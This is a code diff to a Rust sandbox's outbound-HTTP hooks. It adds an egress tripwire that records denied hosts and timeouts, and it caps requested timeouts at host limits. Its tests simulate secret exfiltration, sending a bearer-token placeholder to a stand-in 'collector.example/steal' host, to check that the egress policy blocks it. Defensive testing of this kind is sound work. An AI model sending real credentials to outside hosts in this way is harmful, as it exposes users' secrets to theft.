@@ -2,10 +2,13 @@
 //! placeholders become real values (URL and headers only, never the body).
 
 use std::collections::BTreeSet;
-use std::sync::{Arc, Mutex};
+use std::sync::Arc;
+use std::time::Duration;
 
+use http_body_util::BodyExt;
 use wasmtime_wasi_http::{Error as HttpError, RequestOptions, WasiBody, WasiHttpHooks};
 
+use super::limits::{Limits, Stop, Tripwire};
 use crate::secrets::Vault;
 
 /// Hosts every Slack connector may reach.
@@ -43,17 +46,31 @@ fn host_of(url: &str) -> Option<String> {
     Some(host.to_ascii_lowercase())
 }
 
-/// The `wasi:http` hooks of one step: enforce the policy, reveal secrets, record denials.
+/// The `wasi:http` hooks of one step: enforce the policy and the timeouts, reveal secrets,
+/// record what stopped a request.
 pub struct EgressHooks {
     policy: Arc<EgressPolicy>,
     vault: Vault,
-    denied: Arc<Mutex<Option<String>>>,
+    tripwire: Tripwire,
+    limits: Limits,
 }
 
 impl EgressHooks {
-    /// Hooks enforcing `policy`, revealing `vault`'s secrets, noting a denied host in `denied`.
-    pub fn new(policy: Arc<EgressPolicy>, vault: Vault, denied: Arc<Mutex<Option<String>>>) -> Self {
-        Self { policy, vault, denied }
+    /// Hooks enforcing `policy` and `limits`' timeouts, revealing `vault`'s secrets, recording
+    /// a denied host or a timeout in `tripwire`.
+    pub fn new(policy: Arc<EgressPolicy>, vault: Vault, tripwire: Tripwire, limits: Limits) -> Self {
+        Self { policy, vault, tripwire, limits }
+    }
+
+    /// The component's timeouts, none longer than the host's.
+    fn timeouts(&self, asked: Option<RequestOptions>) -> RequestOptions {
+        let asked = asked.unwrap_or_default();
+        let capped = |asked: Option<Duration>, limit: Duration| Some(asked.map_or(limit, |a| a.min(limit)));
+        RequestOptions {
+            connect_timeout: capped(asked.connect_timeout, self.limits.connect),
+            first_byte_timeout: capped(asked.first_byte_timeout, self.limits.first_byte),
+            between_bytes_timeout: capped(asked.between_bytes_timeout, self.limits.between_bytes),
+        }
     }
 
     /// Checks the destination and swaps placeholders in the URL and header values.
@@ -70,7 +87,7 @@ impl EgressHooks {
         let host = request.uri().host().unwrap_or_default().trim_start_matches('[').trim_end_matches(']').to_owned();
         if !self.policy.allows(&host) {
             tracing::warn!(%host, "outgoing request denied by the egress policy");
-            *self.denied.lock().unwrap_or_else(|p| p.into_inner()) = Some(host);
+            self.tripwire.trip(Stop::Egress { host });
             return Err(HttpError::HttpRequestDenied);
         }
         let uri = request.uri().to_string();
@@ -111,13 +128,30 @@ impl WasiHttpHooks for EgressHooks {
         }
         tracing::debug!(request = %shown, "outgoing request");
         let _ = fut;
+        let options = self.timeouts(options);
+        let host = request.uri().authority().map(ToString::to_string).unwrap_or_default();
+        let tripwire = self.tripwire.clone();
+        let timed_out = move |phase: &'static str, after: Option<Duration>| {
+            let after = after.unwrap_or_default();
+            tripwire.trip(Stop::Timeout { phase, host: host.clone(), after });
+        };
         Box::new(async move {
-            use http_body_util::BodyExt;
-            let (response, io) = wasmtime_wasi_http::default_send_request(request, options).await?;
-            Ok((
-                response.map(BodyExt::boxed_unsync),
-                Box::new(io) as Box<dyn Future<Output = Result<(), HttpError>> + Send>,
-            ))
+            let sent = wasmtime_wasi_http::default_send_request(request, Some(options)).await;
+            let (response, io) = sent.inspect_err(|err| match err {
+                HttpError::ConnectionTimeout => timed_out("connect", options.connect_timeout),
+                HttpError::ConnectionReadTimeout => timed_out("first byte", options.first_byte_timeout),
+                _ => {}
+            })?;
+            let response = response.map(move |body| {
+                body.map_err(move |err| {
+                    if matches!(err, HttpError::ConnectionReadTimeout) {
+                        timed_out("between bytes", options.between_bytes_timeout);
+                    }
+                    err
+                })
+                .boxed_unsync()
+            });
+            Ok((response, Box::new(io) as Box<dyn Future<Output = Result<(), HttpError>> + Send>))
         })
     }
 }
@@ -128,12 +162,19 @@ mod tests {
     use std::collections::HashMap;
 
     use bytes::Bytes;
-    use http_body_util::{BodyExt, Full};
+    use http_body_util::Full;
 
-    fn hooks(vault: &Vault) -> (EgressHooks, Arc<Mutex<Option<String>>>) {
+    fn hooks(vault: &Vault) -> (EgressHooks, Tripwire) {
         let policy = Arc::new(EgressPolicy::slack_and(&["http://127.0.0.1:9/api/".to_owned()]));
-        let denied = Arc::new(Mutex::new(None));
-        (EgressHooks::new(policy, vault.clone(), denied.clone()), denied)
+        let tripwire = Tripwire::default();
+        (EgressHooks::new(policy, vault.clone(), tripwire.clone(), Limits::default()), tripwire)
+    }
+
+    fn denied_host(tripwire: &Tripwire) -> Option<String> {
+        match tripwire.take() {
+            Some(Stop::Egress { host }) => Some(host),
+            _ => None,
+        }
     }
 
     fn request(url: &str, authorization: &str, body: &str) -> http::Request<WasiBody> {
@@ -154,7 +195,7 @@ mod tests {
         assert!(req.headers()["authorization"].is_sensitive());
         let body = req.into_body().collect().await.unwrap().to_bytes();
         assert_eq!(body, format!("{{\"text\":\"{placeholder}\"}}").as_bytes());
-        assert!(denied.lock().unwrap().is_none());
+        assert!(denied_host(&denied).is_none());
     }
 
     #[test]
@@ -173,7 +214,7 @@ mod tests {
         let bad = vault.conceal("{{secrets.BAD_HOOK}}").unwrap();
         let mut req = request(&format!("https://{bad}/"), "x", "{}");
         assert!(matches!(hooks.prepare(&mut req), Err(HttpError::HttpRequestDenied)));
-        assert_eq!(denied.lock().unwrap().as_deref(), Some("collector.example"));
+        assert_eq!(denied_host(&denied).as_deref(), Some("collector.example"));
     }
 
     #[test]
@@ -183,8 +224,24 @@ mod tests {
         let (hooks, denied) = hooks(&vault);
         let mut req = request("https://collector.example/steal", &format!("Bearer {placeholder}"), "");
         assert!(matches!(hooks.prepare(&mut req), Err(HttpError::HttpRequestDenied)));
-        assert_eq!(denied.lock().unwrap().as_deref(), Some("collector.example"));
+        assert_eq!(denied_host(&denied).as_deref(), Some("collector.example"));
         assert_eq!(req.headers()["authorization"], format!("Bearer {placeholder}").as_str());
+    }
+
+    #[test]
+    fn the_component_may_shorten_the_timeouts_but_not_lengthen_them() {
+        let (hooks, _) = hooks(&Vault::with_values(HashMap::new()));
+        let asked = RequestOptions {
+            connect_timeout: Some(Duration::from_secs(1)),
+            first_byte_timeout: Some(Duration::from_secs(3600)),
+            between_bytes_timeout: None,
+        };
+        let limits = Limits::default();
+        assert_eq!(hooks.timeouts(Some(asked)), RequestOptions {
+            connect_timeout: Some(Duration::from_secs(1)),
+            first_byte_timeout: Some(limits.first_byte),
+            between_bytes_timeout: Some(limits.between_bytes),
+        });
     }
 
     #[test]
